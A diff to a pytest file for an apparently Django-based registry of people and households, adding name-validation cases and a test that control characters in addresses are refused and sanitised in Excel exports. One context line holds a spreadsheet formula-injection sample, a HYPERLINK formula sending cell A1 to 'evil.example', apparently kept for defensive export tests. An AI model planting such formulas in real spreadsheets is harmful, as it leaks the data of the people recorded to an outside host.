@@ -19,7 +19,21 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 
 
 @pytest.mark.parametrize(
-    "name", ["陈志明", "阿依古丽·买买提", "阿卜杜拉•艾买提", "Maria-José García", "欧阳 娜娜", "李〇", "Zoë O"]
+    "name",
+    [
+        "陈志明",
+        "阿依古丽·买买提",
+        "阿卜杜拉•艾买提",
+        "Maria-José García",
+        "欧阳 娜娜",
+        "李〇",
+        "Zoë O",
+        "O'Brien",
+        "N’Diaye",
+        "帕尔哈提．买买提",
+        "张\u3000三",
+        "J. Smith",
+    ],
 )
 def test_real_names_are_accepted(officer, honglai, name):
     person = person_create(user=officer, name=name, id_number=make_id_number(), township=honglai)
@@ -103,3 +117,25 @@ def test_a_users_full_name_follows_the_name_rule_and_is_never_cut(db):
             user_create(username="other", password="Correct-horse-9", role="staff", full_name=bad)
         assert says in exc.value.message_dict["full_name"][0]
     assert not User.objects.filter(username="other").exists()
+
+
+def test_a_name_kept_from_before_the_rule_does_not_block_editing_the_person(officer, honglai):
+    from core.services.people import person_update
+
+    person = PersonFactory(name="张三1", township=honglai)  # stored before names were checked
+    person = person_update(user=officer, person=person, phone="13800000000")
+    assert person.name == "张三1" and person.phone == "13800000000"
+
+
+def test_a_control_character_is_refused_in_an_address_and_never_breaks_an_export(officer, staff, client_for, honglai):
+    from core.services.people import household_create
+
+    head = PersonFactory(township=honglai)
+    with pytest.raises(ValidationError) as exc:
+        household_create(user=officer, head=head, address="洪濑\x0b镇")
+    assert "控制字符" in exc.value.message_dict["address"][0]
+    HouseholdFactory(head=PersonFactory(township=honglai), address="洪濑\x0b镇")  # stored before the rule
+    response = client_for(staff).get(reverse("core:household_export"))
+    assert response.status_code == 200
+    cells = [c.value for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row]
+    assert "洪濑\ufffd镇" in cells
